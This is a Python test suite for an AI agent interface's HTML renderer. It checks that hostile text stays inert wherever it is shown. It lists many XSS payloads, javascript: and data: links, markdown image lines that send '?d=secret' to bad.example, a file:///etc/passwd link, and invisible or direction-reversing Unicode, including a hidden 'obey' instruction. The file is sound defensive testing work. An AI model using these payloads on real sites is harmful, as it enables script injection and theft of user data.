"""Text that is out to run, to load, to hide or to break the page, in every place where foreign text is shown."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from agent.calls.approvals import ApprovalRequest
from agent.schema import Citation, ToolCall, Turn, Verdict
from knowledge.schema import Passage
from tests.ui.allowed import parsed
from ui import render
from ui.addresses import followable
from ui.escape import attribute, escaped, exposed
from ui.markdown import LONGEST, Mark, to_html

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//bad.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//bad.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style='background:url(//bad.example)'>x</div>",
    "<style>@import '//bad.example'</style>",
    "<link rel=stylesheet href=//bad.example>",
    "<meta http-equiv=refresh content='0;url=//bad.example'>",
    "<base href=//bad.example>",
    "<form action=//bad.example><input name=q><button>go",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "</div></div></details></table><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</mark></style></title></textarea><script>alert(1)</script>",
    "<!-- hidden instructions --><!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '`"><script>alert(1)</script>`',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "{{7*7}} ${alert(1)} <%= 1 %>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ufeff<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](about:blank)",
    "[x](//bad.example)",
    "[x](\\\\bad.example)",
    "[x](/\\bad.example)",
    "[x](http:bad.example)",
    "[x](https:///bad.example)",
    "[x](http://)",
    "[x](https://[::1)",
    "[x](https://a.example\\@bad.example)",
    "[x](https://a.example%0d%0aX:y@bad.example)",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example'onmouseover=alert(1))",
    '[x](<https://a.example/"onmouseover="alert(1)>)',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://a.example/"onmouseover="alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "[1]: https://bad.example\n\n[1] and [y][1]",
    "[[x](https://a.example)](javascript:alert(1))",
    "[![x](https://bad.example/i.png)](https://bad.example/?d=secret)",
    "![x](https://bad.example/i.png?d=secret)",
    "![x](//bad.example/i.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror="alert(1)](x)',
    "![x][y]\n\n[y]: https://bad.example/i.png",
    "![<script>alert(1)</script>](https://bad.example '<script>')",
    "![a ![b](c) [d](https://bad.example)](e)",
    "https://bad.example/?d=secret",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "~~~html\n<img src=x onerror=alert(1)>\n~~~",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <!-- | ![x](//bad.example) |",
    "# <img src=x onerror=alert(1)>",
    "- [ ] <input type=checkbox onclick=alert(1)>",
]
HIDDEN = [
    "user\u202egnp.exe",
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "ab\u200bcd\u2060ef\ufeffgh",
    "\U000e0041\U000e0042\U000e007f hidden tags",
    "a\ufe00\U000e0100\U000e01ef b",
    "\u3164\u115f\u2800 fillers",
    "\x1b[31mred\x1b[0m \x07\x08\x9b",
    "\ud800 alone \udfff",
    "\x00\x01\x7f\x85",
    "a\u0300" + "\u0489" * 400,
    "مرحبا \u200fworld\u200e [1] שלום",
]
UNCLOSED = [
    "[",
    "![",
    "*",
    "**",
    "_",
    "~~",
    "`",
    "```\n",
    "<",
    "<!--",
    "(",
    "[x](",
    "> ",
    "- ",
    "| ",
    "#",
    "\\",
    "&",
    "|-|\n",
]
HOSTILE = [*SCRIPTS, *LINKS, *HIDDEN]


def everywhere(text: str) -> Iterator[str]:
    """The text in each place of each block."""
    marks = [Mark(0, len(text) // 2, "not", text), Mark(len(text) // 2, len(text), "partly", text)]
    yield to_html(text)
    yield to_html(text, marks=marks, citations={1: "t1-s1-text"})
    yield to_html(f"*a* {text} **b** [1]", marks=marks)
    passage = Passage("p", text, f"before {text} after", 1, 9, heading=text, part=text)
    citation = Citation(1, text, text, text, "p", heading=text)
    artifact = {
        "table": {"columns": [text, 1], "rows": [[text, None], text, {text: text}]},
        "files": [{"name": text, "media_type": text, "path": text}],
    }
    call = ToolCall("c", text, {text: text, "deep": [{text: [text]}]}, text, text, 1.0, artifact)
    verdicts = (Verdict(0, len(text), "not", None, text),)
    turn = Turn(text, "t", text, text, "cancelled", (citation,), (passage,), (call,), (text,), verdicts=verdicts)
    yield render.answer_html(turn)
    yield render.sources_html(turn)
    yield render.notes_html(turn)
    yield render.steps_html(turn.tool_calls)
    yield render.passages_html(turn.passages)
    yield render.approval_html(
        ApprovalRequest("c", "t", text, {text: text}, text, "d", f"+{text}\n-{text}", text, (text,))
    )
    yield render.question_html(text)
    yield render.streaming_html(text)
    yield render.error_html(text, text, text)
    yield render.table_html(artifact["table"], text)  # type: ignore[arg-type]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_becomes_markup_anywhere(text: str) -> None:
    for markup in everywhere(text):
        parsed(markup)


@pytest.mark.parametrize("text", SCRIPTS, ids=range(len(SCRIPTS)))
def test_markup_is_shown_as_it_was_written(text: str) -> None:
    for show in (render.question_html, render.streaming_html):
        assert parsed(show(text)).get_text() == exposed(text)
    assert "alert" not in text or "alert" in parsed(to_html(text)).get_text()


@pytest.mark.parametrize("text", LINKS, ids=range(len(LINKS)))
def test_links_lead_to_the_web_or_nowhere(text: str) -> None:
    for link in parsed(to_html(text)).select("a"):
        assert re.match(r"https?://(a|bad)\.example", str(link["href"]))


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "//bad.example",
        "/bad",
        "bad.example",
        "http:bad.example",
        "https:/bad.example",
        "https:///bad.example",
        "http://",
        "https://a\\b.example",
        "https://a.example\\@bad.example",
        "https://user@bad.example",
        "https://a.example/\tx",
        "https://a.example/ü",
        "https://[::1",
        "mailto:",
        " https://a.example",
        "https://a.example\n",
        "",
    ],
)
def test_addresses_that_are_not_followed(address: str) -> None:
    assert not followable(address)


@pytest.mark.parametrize(
    "address", ["http://a.example", "HTTPS://a.example:8/x?y#z", "https://[::1]/", "mailto:a@b.example"]
)
def test_addresses_that_are(address: str) -> None:
    assert followable(address)


def test_a_message_hidden_from_the_eye_is_seen() -> None:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
    page = parsed(to_html(f"Hello{hidden}, world"))
    assert page.select(".r-hidden")[0].get_text() == r"\U000e006f\U000e0062\U000e0065\U000e0079"


@pytest.mark.parametrize("text", HIDDEN, ids=range(len(HIDDEN)))
def test_nothing_that_is_shown_is_invisible_or_turns_the_line_around(text: str) -> None:
    for markup in everywhere(text):
        assert not re.search(
            "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2060-\u206f\ud800-\udfff\ufeff\U000e0000-\U000e01ef]", markup
        )


@pytest.mark.parametrize("entity", ["&#x202e;", "&#8238;", "&ZeroWidthSpace;", "&#xE0041;", "&#xFEFF;"])
def test_entities_hide_nothing_either(entity: str) -> None:
    assert parsed(to_html(f"a{entity}b")).select(".r-hidden")


@pytest.mark.parametrize(
    "text",
    [
        "عرب\u200cی و می\u200cخواهم",  # Persian writes with the joiner
        "क्\u200dष",
        "👩\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f⃣ 🏳\ufe0f\u200d🌈",
        "שלום\u200f!",
        "10\xa0km, 10\u202f000, 全角\u3000空白",
        "Donau\xaddampf",
        "naïve café — “quoted” … 日本語 한국어 ελληνικά",
    ],
)
def test_what_languages_need_is_left_alone(text: str) -> None:
    assert escaped(text) == text
    assert parsed(to_html(text)).get_text() == text


def test_blocks_take_the_direction_of_their_own_words() -> None:
    page = parsed(to_html("مرحبا\n\nHello\n\n- שלום\n\n> مرحبا\n\n|ש|\n|-|\n|a|\n\n# ש"))
    assert all(block.get("dir") == "auto" for block in page.select("p, ul, blockquote, th, td, h3"))


def test_an_attribute_cannot_be_left() -> None:
    assert not set(attribute("\"'<>\n\u202e`")) & set("\"'<>\n\u202e")


@pytest.mark.parametrize("piece", UNCLOSED, ids=range(len(UNCLOSED)))
def test_what_is_never_closed_stays_in_its_block(piece: str) -> None:
    for text in (piece * 500, f"{piece} x\n" * 120):
        parsed(to_html(text, marks=[Mark(0, 9, "not", "")], citations={1: "t-s1"}))


@pytest.mark.parametrize(
    "opening", [("> ", ""), ("- ", ""), ("[", "](https://a.example)"), ("**_", "_**"), ("![", "](x)")]
)
def test_deep_nesting_is_bounded(opening: tuple[str, str]) -> None:
    before, after = opening
    page = parsed(to_html(before * 400 + "x" + after * 400))
    assert max(len(list(element.parents)) for element in page.find_all(True)) < 120


def test_a_line_of_a_megabyte_is_shown_in_full_in_a_box_that_scrolls() -> None:
    text = "word " * 200_000 + "<b>end"
    page = parsed(to_html(text))
    box = page.select(".r-plain[tabindex='0']")[0]
    assert box.get_text() == text
    assert len(page.find_all(True)) < 10


def test_a_megabyte_of_markup_is_shown_as_text() -> None:
    text = "**[x](javascript:alert(1))** ![y](//bad.example)\n\n" * 20_000
    assert len(text) > LONGEST
    assert not parsed(to_html(text)).select("a, img, strong")


@pytest.mark.parametrize("side", [20, 60, 250])
def test_a_huge_table_scrolls_or_is_shown_as_text(side: int) -> None:
    text = "|" + "a|" * side + "\n|" + "-|" * side + "\n" + "|\n" * side
    page = parsed(to_html(text))
    assert page.select("table" if side < 100 else ".r-scroll, .r-plain")
    assert len(page.find_all(True)) < 5_000


def test_tables_of_tools_are_kept_whole() -> None:
    table = {"columns": [f"c{at}" for at in range(60)], "rows": [["<b>" * 9] * 60] * 20}
    page = parsed(render.table_html(table))
    assert len(page.select("td")) == 1200
    assert page.select(".r-scroll > table")


PIECES = [
    *UNCLOSED,
    *(
        "]",
        ")",
        "](",
        "> ",
        "\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "1. ",
        "---\n",
        "===\n",
        "|---|\n",
        '"',
        "'",
        "-->",
        "&amp;",
        "&#x202e;",
    ),
    *(
        "a",
        "Word.",
        "[1]",
        "[2]",
        "https://a.example",
        "javascript:",
        "data:",
        "\u202e",
        "\u200b",
        "ש",
        "\U00012470",
        "```py\n",
    ),
    *("<script>", "</p>", "<img src=x onerror=y>", "onload=", "\x00", "\ud800", "🏳\ufe0f"),
]
texts = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=40).map("".join)
spans = st.lists(st.tuples(st.integers(-3, 200), st.integers(-3, 200)), max_size=6)


@settings(max_examples=200, deadline=None)
@given(texts, spans)
@example("🏳\ufe0f", [(0, 1)])
@example("👩\u200d🔬", [(0, 1), (1, 2), (2, 3)])
@example("\u200fש", [(1, 2)])
def test_no_text_breaks_out_and_no_mark_changes_it(text: str, bounds: list[tuple[int, int]]) -> None:
    kinds = ("not", "partly", "supported")
    marks = [Mark(start, end, kinds[at % 3], text[:20]) for at, (start, end) in enumerate(bounds)]  # type: ignore[arg-type]
    plain = parsed(to_html(text, citations={1: "t1-s1-text"}))
    marked = parsed(to_html(text, marks=marks, citations={1: "t1-s1-text"}))
    assert marked.get_text() == plain.get_text()


@settings(max_examples=100, deadline=None)
@given(st.one_of(texts, st.text(max_size=60)))
def test_escaped_text_reads_as_it_was_exposed(text: str) -> None:
    assert parsed(f"<p>{escaped(text)}</p>").get_text() == exposed(text)
    assert exposed(exposed(text)) == exposed(text)


@settings(max_examples=30, deadline=None)
@given(texts)
def test_every_block_holds_any_text(text: str) -> None:
    for markup in everywhere(text):
        parsed(markup)


BLOCKS: list[Callable[[str], str]] = [render.question_html, render.streaming_html, render.error_html, to_html]


@pytest.mark.parametrize("block", BLOCKS, ids=lambda block: block.__name__)
def test_no_block_is_left_open_for_the_next(block: Callable[[str], str]) -> None:
    page = parsed("".join(block(text) for text in HOSTILE))
    assert page.body is not None
    assert len(page.body.find_all("div", recursive=False)) == len(HOSTILE)
